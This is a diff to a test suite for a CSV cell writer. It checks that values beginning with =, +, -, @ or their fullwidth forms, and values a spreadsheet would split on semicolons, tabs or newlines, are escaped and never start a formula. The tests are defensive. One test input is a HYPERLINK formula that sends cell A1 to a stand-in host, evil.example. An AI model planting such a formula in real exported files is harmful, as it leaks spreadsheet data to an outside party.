@@ -39,13 +39,37 @@ describe('a cell of CSV', () => {
   });
 
   it.each([
-    ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '\ufeff=1', '\t', '\rx'],
+    ...['=1+1', '+1', '-1', '@SUM(A1)', ' =1', '\u00a0=1', '\ufeff=1', '\t', '\rx'],
     ...['＝1', '＋1', '－1', '＠x', '=HYPERLINK("https://evil.example/?"&A1)'],
   ])('%j never begins a formula', (text) => {
     const written = writeCsvCell(text);
     const value = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
     expect(value).toBe(`'${text}`);
     expect(writeCsvCell([text, 'x']).replace(/^"/, '')).toMatch(/^'/);
+  });
+});
+
+describe('a cell of CSV that a spreadsheet would split', () => {
+  it.each([
+    ['a;=1', "a;'=1"],
+    ['a\t=1', "a\t'=1"],
+    ['a\n=1', "a\n'=1"],
+    ['a\r\n@x', "a\r\n'@x"],
+    ['a; \u00a0＝1', "a;' \u00a0＝1"],
+    // Such a spreadsheet reads the doubled quote after the semicolon as an empty text in quotes, and then the formula.
+    ['a;"=1', `a;'"=1`],
+    ['a;;=1;-2', "a;;'=1;'-2"],
+    ['\t=1', "'\t'=1"],
+    ['a; b\n* c = d', 'a; b\n* c = d'],
+  ])('%j begins a formula nowhere', (text, safe) => {
+    const written = writeCsvCell(text);
+    expect(written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written).toBe(safe);
+    expect(writeCsvCell(['x', text]).replaceAll('""', '"')).toContain(safe.replace(/^'/, ''));
+  });
+
+  it.each([' ', ';', '\t', ';"', '; \n'])('is written in linear time, also if it repeats %j', (part) => {
+    const text = part.repeat(100_000);
+    expect(writeCsvCell(text).length).toBeGreaterThanOrEqual(text.length);
   });
 });
 
